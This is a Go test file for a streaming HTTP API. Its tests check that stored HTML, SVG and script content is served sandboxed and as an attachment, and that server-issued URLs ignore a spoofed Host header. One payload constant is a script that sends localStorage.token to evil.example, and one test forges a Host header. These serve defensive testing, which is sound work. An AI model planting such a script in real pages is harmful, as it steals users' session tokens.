package durablestreams_test

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/tetherhq/tether/api/durablestreams"
	"github.com/tetherhq/tether/streams"
	"github.com/tetherhq/tether/streams/wake"
)

// TestHTTPActiveContentIsNeverRendered: a stream is served on the API's
// origin, which is the web page's (whose token is in localStorage), so a
// stream created as HTML or SVG must not run as a document there: every
// answer carries a sandboxing CSP and nosniff, and types a browser would
// render as a document or run as a script are served as attachments. The
// stream's content type is still echoed as the protocol says.
func TestHTTPActiveContentIsNeverRendered(t *testing.T) {
	s := newServer(t, durablestreams.Options{})
	const payload = `<script>fetch("https://evil.example/?t="+localStorage.token)</script>`
	for _, ct := range []string{"text/html", "text/html; charset=utf-8", "image/svg+xml", "application/xhtml+xml",
		"text/xml", "application/xml", "application/javascript", "text/javascript", "TEXT/HTML", "application/pdf",
		"multipart/x-mixed-replace; boundary=x"} {
		path := "xss/" + strings.NewReplacer(" ", "", "/", "-", ";", "", "=", "").Replace(ct)
		resp, body := s.do("PUT", path, payload, "Content-Type", ct)
		s.want(resp, body, 201)
		if resp.Header.Get("Content-Type") != ct {
			t.Fatalf("%s: PUT echoes %q", ct, resp.Header.Get("Content-Type"))
		}
		resp, _ = s.do("POST", path, "<b>more</b>", "Content-Type", ct)
		s.want(resp, "", 204)
		for _, q := range []string{"", "?offset=-1", "?offset=-1&live=long-poll"} {
			resp, body = s.do("GET", path+q, "")
			s.want(resp, body, 200)
			h := resp.Header
			if h.Get("Content-Type") != ct || !strings.Contains(body, "<script>") {
				t.Fatalf("%s: GET%s answers %q: %q", ct, q, h.Get("Content-Type"), body)
			}
			csp := h.Get("Content-Security-Policy")
			if !strings.Contains(csp, "sandbox") || !strings.Contains(csp, "default-src 'none'") || !strings.Contains(csp, "frame-ancestors 'none'") {
				t.Errorf("%s: GET%s Content-Security-Policy %q", ct, q, csp)
			}
			if h.Get("X-Content-Type-Options") != "nosniff" {
				t.Errorf("%s: GET%s without nosniff", ct, q)
			}
			if !strings.HasPrefix(h.Get("Content-Disposition"), "attachment") {
				t.Errorf("%s: GET%s Content-Disposition %q", ct, q, h.Get("Content-Disposition"))
			}
		}
		resp, _ = s.do("HEAD", path, "")
		if resp.Header.Get("Content-Type") != ct || !strings.Contains(resp.Header.Get("Content-Security-Policy"), "sandbox") {
			t.Errorf("%s: HEAD %v", ct, resp.Header)
		}
	}

	// Passive types are shown inline, still sandboxed.
	for _, ct := range []string{"application/json", "text/plain; charset=utf-8", "application/octet-stream", "application/ld+json", "application/x-ndjson"} {
		path := "ok/" + strings.NewReplacer(" ", "", "/", "-", ";", "", "=", "").Replace(ct)
		body := "x"
		if strings.Contains(ct, "json") {
			body = `{"a":1}`
		}
		resp, b := s.do("PUT", path, body, "Content-Type", ct)
		s.want(resp, b, 201)
		resp, b = s.do("GET", path, "")
		s.want(resp, b, 200)
		if resp.Header.Get("Content-Disposition") != "" || !strings.Contains(resp.Header.Get("Content-Security-Policy"), "sandbox") {
			t.Errorf("%s: %v", ct, resp.Header)
		}
	}
	// Errors and thread logs too.
	resp, _ := s.do("GET", "missing", "")
	if !strings.Contains(resp.Header.Get("Content-Security-Policy"), "sandbox") {
		t.Errorf("404: %v", resp.Header)
	}
}

// TestHTTPURLsIgnoreTheHostHeader: the URLs the server gives out (a new
// stream's Location, a subscription's JWKS and callback URLs, which are
// sent to webhook receivers with a token) are never built from the
// request's Host header, which whoever sends the request chooses: they
// come from the configured base URL, or are relative.
func TestHTTPURLsIgnoreTheHostHeader(t *testing.T) {
	s := newServer(t, durablestreams.Options{})
	resp, body := s.do("PUT", "loc/a b", "", "Content-Type", "text/plain", "Host", "evil.example")
	s.want(resp, body, 201)
	if loc := resp.Header.Get("Location"); loc != "/v1/stream/loc/a%20b" {
		t.Errorf("Location without a base URL: %q", loc)
	}

	const base = "https://tether.example"
	s = newServerWith(t, streams.Options{}, wake.Options{BaseURL: base, AllowLoopback: true}, durablestreams.Options{BaseURL: base + "/"})
	resp, body = s.do("PUT", "loc/a", "", "Content-Type", "text/plain", "Host", "evil.example")
	s.want(resp, body, 201)
	if loc := resp.Header.Get("Location"); loc != base+"/v1/stream/loc/a" {
		t.Errorf("Location %q", loc)
	}
	hooks := make(chan []byte, 10)
	rcv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		hooks <- b
	}))
	defer rcv.Close()
	sub := `{"type":"webhook","pattern":"hooked/*","webhook":{"url":"` + rcv.URL + `/x"}}`
	resp, body = s.do("PUT", "__ds/subscriptions/h1", sub, "Content-Type", "application/json", "Host", "evil.example")
	s.want(resp, body, 201)
	resp, body = s.do("GET", "__ds/subscriptions/h1", "")
	s.want(resp, body, 200)
	if strings.Contains(body, "evil") || !strings.Contains(body, `"jwks_url":"`+base+`/v1/stream/__ds/jwks.json"`) {
		t.Errorf("subscription %s", body)
	}
	resp, body = s.do("PUT", "hooked/a", "{}", "Content-Type", "application/json", "Host", "evil.example")
	s.want(resp, body, 201)
	var n struct {
		CallbackURL string `json:"callback_url"`
	}
	select {
	case b := <-hooks:
		if err := json.Unmarshal(b, &n); err != nil || n.CallbackURL != base+"/v1/stream/__ds/subscriptions/h1/callback" {
			t.Errorf("notification %s", b)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("no webhook")
	}
}
